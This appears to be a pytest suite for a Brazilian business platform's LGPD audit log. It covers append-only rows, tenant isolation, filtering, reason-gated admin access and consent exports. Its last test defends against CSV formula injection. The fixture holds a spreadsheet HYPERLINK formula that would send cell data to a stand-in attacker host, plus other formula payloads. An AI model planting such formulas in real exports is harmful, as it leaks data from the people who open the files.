"""The LGPD audit trail: append-only in the database, fed by exports, API keys, webhooks and
platform-admin access (with the reason, which the business sees); a business reads only its
own entries, filtered by kind, period and person, a page at a time, as sentences; contacts
appear only by id."""

from __future__ import annotations

from datetime import timedelta

import pytest
from sqlalchemy import text
from sqlalchemy.exc import DatabaseError
from sqlmodel import Session, select

from tests.factories import make_admin, make_instance, make_owner
from ylada_app.core.db import get_engine
from ylada_app.core.i18n_ui import UI_TEXTS
from ylada_app.models import AuditLog, Tenant, utcnow
from ylada_app.services import (
    admin,
    analytics_export,
    api_keys,
    audit,
    audit_view,
    consent_view,
    contacts,
    webhooks_out,
)
from ylada_app.services.audit import Filters
from ylada_app.services.errors import FieldErrors, Forbidden, NotFound


def _actions(db, tenant_id):
    db.expire_all()
    return [e.action for e in audit.business_page(db, tenant_id=tenant_id).entries]


def test_rows_cannot_be_changed_or_deleted_by_anyone(db):
    owner = make_owner(db)
    row = audit.record(db, action="export.leads", actor_user_id=owner.user_id,
                       tenant_id=owner.tenant_id)
    db.commit()
    for statement in (f"UPDATE audit_log SET action = 'x' WHERE id = {row.id}",
                      f"DELETE FROM audit_log WHERE id = {row.id}",
                      "DELETE FROM audit_log"):
        with Session(get_engine()) as other, pytest.raises(DatabaseError) as refused:
            other.exec(text(statement))
        assert "append-only" in str(refused.value)
    with Session(get_engine()) as fresh:
        assert fresh.get(AuditLog, row.id).action == "export.leads"


def test_a_business_can_be_deleted_and_its_entries_stay(db):
    owner = make_owner(db, tenant_name="Vai fechar")
    audit.record(db, action="export.leads", actor_user_id=owner.user_id,
                 tenant_id=owner.tenant_id)
    db.commit()
    tenant = db.get(Tenant, owner.tenant_id)
    db.delete(tenant)  # no foreign key: the trail is neither cascaded nor in the way
    db.commit()
    assert db.exec(select(AuditLog).where(AuditLog.tenant_id == owner.tenant_id)).all()


def test_keys_webhooks_and_exports_are_recorded_for_the_business(db):
    owner = make_owner(db)
    make_instance(db, owner.tenant_id)
    key, _ = api_keys.create_key(db, tenant_id=owner.tenant_id, name="ERP", scopes="read",
                                 user_id=owner.user_id)
    api_keys.revoke_key(db, tenant_id=owner.tenant_id, key_id=key.id,
                        actor_user_id=owner.user_id)
    analytics_export.request_export(db, tenant_id=owner.tenant_id, user_id=owner.user_id,
                                    kind="leads", fmt="csv")
    analytics_export.request_export(db, tenant_id=owner.tenant_id, user_id=owner.user_id,
                                    kind="daily", fmt="xlsx")
    db.commit()
    endpoint, _ = webhooks_out.create_endpoint(
        db, tenant_id=owner.tenant_id, url="https://example.com/hook",
        events=["message.received"], actor_user_id=owner.user_id)
    webhooks_out.delete_endpoint(db, tenant_id=owner.tenant_id, endpoint_id=endpoint.id,
                                 actor_user_id=owner.user_id)
    db.commit()
    assert _actions(db, owner.tenant_id)[:6] == [
        "webhook.deleted", "webhook.created", "export.daily", "export.leads",
        "api_key.revoked", "api_key.created"]
    entry = audit.entries(db, tenant_id=owner.tenant_id, action_prefix="webhook.")[0]
    assert entry.target == f"webhook:{endpoint.id}" and entry.actor == owner.email
    rows = audit_view.business_view(db, tenant_id=owner.tenant_id).rows
    assert {r["what"] for r in rows} >= {"Criou uma chave da API", "Revogou uma chave da API",
                                         "Exportou a lista de leads"}
    assert all("." not in r["what"] for r in rows)  # sentences, never codes


def test_every_known_action_reads_as_a_sentence():
    codes = [k.removeprefix("audit.action.") for k in UI_TEXTS if k.startswith("audit.action.")]
    assert len(codes) > 30
    for code in codes:
        assert audit_view.sentence(code) not in (code, "")
    assert audit_view.sentence("privacy.something_new") == "Ação de privacidade (LGPD)"
    assert audit_view.sentence("zzz") == "Outra ação registrada"
    assert audit_view.target_text("contact:42") == "contato nº 42"
    assert audit_view.details_text({"reason": "Chamado 9", "request_id": 3}) == \
        "Motivo: Chamado 9"


def test_the_consent_csv_is_in_words_and_audited_by_contact_id_only(db):
    owner = make_owner(db)
    inst = make_instance(db, owner.tenant_id)
    contact, _ = contacts.upsert_contact(db, tenant_id=owner.tenant_id, instance_id=inst.id,
                                         phone="11987659999", name="Rafaela Única")
    contacts.set_opted_in(db, tenant_id=owner.tenant_id, contact_id=contact.id, opted_in=True,
                          actor_user_id=owner.user_id)
    db.commit()
    [row] = consent_view.rows(db, tenant_id=owner.tenant_id, contact_id=contact.id)
    assert (row["purpose"], row["choice"], row["basis"], row["source"]) == (
        "Marketing", "Concedido", "Consentimento do contato",
        "Alterado pela equipe na página do contato")
    csv_text = consent_view.csv_download(db, tenant_id=owner.tenant_id, contact_id=contact.id,
                                         user_id=owner.user_id)
    db.commit()
    assert csv_text.splitlines()[0].startswith("Data e hora;Finalidade;Escolha;Base legal")
    assert "Marketing;Concedido" in csv_text
    [entry] = [e for e in audit.entries(db, tenant_id=owner.tenant_id)
               if e.action == "export.consents"]
    assert entry.target == f"contact:{contact.id}"
    every = " ".join(f"{e.target} {e.details}" for e in audit.entries(db, limit=5000))
    assert "11987659999" not in every and "5511987659999" not in every
    assert "Rafaela" not in every
    other = make_owner(db)
    with pytest.raises(NotFound):
        consent_view.rows(db, tenant_id=other.tenant_id, contact_id=contact.id)
    with pytest.raises(NotFound):
        consent_view.csv_download(db, tenant_id=other.tenant_id, contact_id=contact.id,
                                  user_id=other.user_id)


def test_a_business_never_sees_another_ones_entries(db):
    a, b = make_owner(db, tenant_name="Empresa A"), make_owner(db, tenant_name="Empresa B")
    audit.record(db, action="export.leads", actor_user_id=a.user_id, tenant_id=a.tenant_id,
                 target="export:1")
    audit.record(db, action="auth.login", actor_user_id=a.user_id)
    audit.record(db, action="auth.password_changed", actor_user_id=b.user_id)
    db.commit()
    seen_a = audit.business_page(db, tenant_id=a.tenant_id).entries
    seen_b = audit.business_page(db, tenant_id=b.tenant_id).entries
    assert {e.tenant_id for e in seen_b} <= {b.tenant_id, None}
    assert not {e.id for e in seen_a} & {e.id for e in seen_b}
    assert "export.leads" in [e.action for e in seen_a]
    assert "auth.login" in [e.action for e in seen_a]  # its member's sign-ins
    assert "auth.password_changed" not in [e.action for e in seen_b]  # the person's own
    assert a.user_id not in [uid for uid, _ in audit.business_people(db, tenant_id=b.tenant_id)]
    csv_b = audit_view.business_csv(db, tenant_id=b.tenant_id, user_id=b.user_id)
    assert "Exportou a lista de leads" not in csv_b and a.email not in csv_b


def test_filters_by_kind_period_and_person_and_pages(db):
    owner = make_owner(db)
    for i in range(audit.PAGE + 5):
        audit.record(db, action="export.leads", actor_user_id=owner.user_id,
                     tenant_id=owner.tenant_id, target=f"export:{i}")
    audit.record(db, action="api_key.created", actor_user_id=None, tenant_id=owner.tenant_id)
    db.commit()
    tid = owner.tenant_id
    first = audit.business_page(db, tenant_id=tid)
    assert len(first.entries) == audit.PAGE and first.total >= audit.PAGE + 6
    second = audit.business_page(db, tenant_id=tid, page=2)
    assert not {e.id for e in first.entries} & {e.id for e in second.entries}
    exports = audit.business_page(db, tenant_id=tid, filters=Filters(kind="exports"))
    assert exports.total == audit.PAGE + 5
    keys = audit.business_page(db, tenant_id=tid, filters=Filters(kind="integrations"))
    assert [e.action for e in keys.entries] == ["api_key.created"]
    mine = audit.business_page(db, tenant_id=tid, filters=Filters(actor_user_id=owner.user_id))
    assert "api_key.created" not in [e.action for e in mine.entries]
    today = utcnow().date()
    view = audit_view.business_view(db, tenant_id=tid, since=(today - timedelta(days=1))
                                    .isoformat(), until=(today + timedelta(days=1)).isoformat())
    assert view.total == first.total and view.pages == 2
    old = audit_view.business_view(db, tenant_id=tid, until="01/01/2020")
    assert old.total == 0
    with pytest.raises(FieldErrors):
        audit_view.business_view(db, tenant_id=tid, since="ontem")


def test_an_admin_gives_a_reason_before_a_business_opens_and_the_business_sees_it(db):
    owner = make_owner(db, tenant_name="Loja Auditada")
    actor = make_admin(db)
    with pytest.raises(admin.ReasonRequired):
        admin.tenant_detail(db, actor, tenant_id=owner.tenant_id)
    assert admin.tenant_name(db, actor, tenant_id=owner.tenant_id) == "Loja Auditada"
    with pytest.raises(FieldErrors):
        admin.open_tenant(db, actor, tenant_id=owner.tenant_id, reason="porque")
    with pytest.raises(Forbidden):
        admin.open_tenant(db, owner.ctx(db), tenant_id=owner.tenant_id,
                          reason="Quero ver os dados de outra empresa")
    admin.open_tenant(db, actor, tenant_id=owner.tenant_id, reason="Chamado 4521: fluxo parado")
    db.commit()
    assert admin.tenant_detail(db, actor, tenant_id=owner.tenant_id).tenant.name == \
        "Loja Auditada"
    other_admin = make_admin(db)  # the opening is this admin's alone
    with pytest.raises(admin.ReasonRequired):
        admin.tenant_detail(db, other_admin, tenant_id=owner.tenant_id)
    view = audit_view.business_view(db, tenant_id=owner.tenant_id, kind="platform")
    [row] = view.rows
    assert row["what"] == "A equipe da plataforma abriu os dados da empresa"
    assert row["details"] == "Motivo: Chamado 4521: fluxo parado"
    assert row["who"].startswith("Equipe da plataforma · admin-")
    other = make_owner(db)
    assert audit_view.business_view(db, tenant_id=other.tenant_id, kind="platform").rows == []


def test_role_changes_and_removals_are_owner_only_recorded_and_keep_an_owner(db):
    from ylada_app.models import Membership
    from ylada_app.models.tenant import Role
    from ylada_app.services import auth, team
    from ylada_app.services.errors import Conflict

    owner = make_owner(db, tenant_name="Loja da Equipe")
    user = auth.create_user(db, email="membro-equipe-audit@exemplo.com.br", name="Bea",
                            password="senha-forte-123")
    db.add(Membership(user_id=user.id, tenant_id=owner.tenant_id, role=Role.AGENT))
    db.commit()
    with pytest.raises(Forbidden):  # an agent cannot promote themselves
        team.change_role(db, tenant_id=owner.tenant_id, actor_user_id=user.id,
                         user_id=user.id, role="owner")
    with pytest.raises(Conflict):  # the only owner cannot step down
        team.change_role(db, tenant_id=owner.tenant_id, actor_user_id=owner.user_id,
                         user_id=owner.user_id, role="agent")
    team.change_role(db, tenant_id=owner.tenant_id, actor_user_id=owner.user_id,
                     user_id=user.id, role="admin")
    team.remove_member(db, tenant_id=owner.tenant_id, actor_user_id=owner.user_id,
                       user_id=user.id)
    db.commit()
    assert [m.email for m in team.list_members(db, tenant_id=owner.tenant_id)] == [owner.email]
    rows = audit_view.business_view(db, tenant_id=owner.tenant_id, kind="team").rows
    assert [(r["what"], r["target"], r["details"]) for r in rows[:2]] == [
        ("Removeu um membro da equipe", "membro-equipe-audit@exemplo.com.br",
         "Papel: Administrador"),
        ("Mudou o papel de um membro da equipe", "membro-equipe-audit@exemplo.com.br",
         "Papel: Administrador; Papel anterior: Atendente")]
    other = make_owner(db)
    with pytest.raises(NotFound):  # another business's member
        team.remove_member(db, tenant_id=other.tenant_id, actor_user_id=other.user_id,
                           user_id=owner.user_id)


def test_no_exported_cell_runs_as_a_spreadsheet_formula():
    # a business named =HYPERLINK(…) became a live link in the platform's audit CSV
    # (2026-12-03): such cells now start with an apostrophe, shown as plain text
    import csv
    import io

    from ylada_app.services import audit_view

    text = audit_view.csv_text([{
        "when": "03/12/2026 10:00", "who": "+5511999990000", "what": "Entrou",
        "target": "@SUM(A1:A9)", "details": "\t=1+1",
        "business": '=HYPERLINK("https://evil.example/?d="&A2,"Ver detalhes")',
        "ip": "-2+3"}], with_business=True)
    cells = list(csv.reader(io.StringIO(text), delimiter=";"))[1]
    assert cells[5] == '\'=HYPERLINK("https://evil.example/?d="&A2,"Ver detalhes")'
    assert [c[:1] for c in cells] == ["0", "'", "E", "'", "'", "'", "'"]
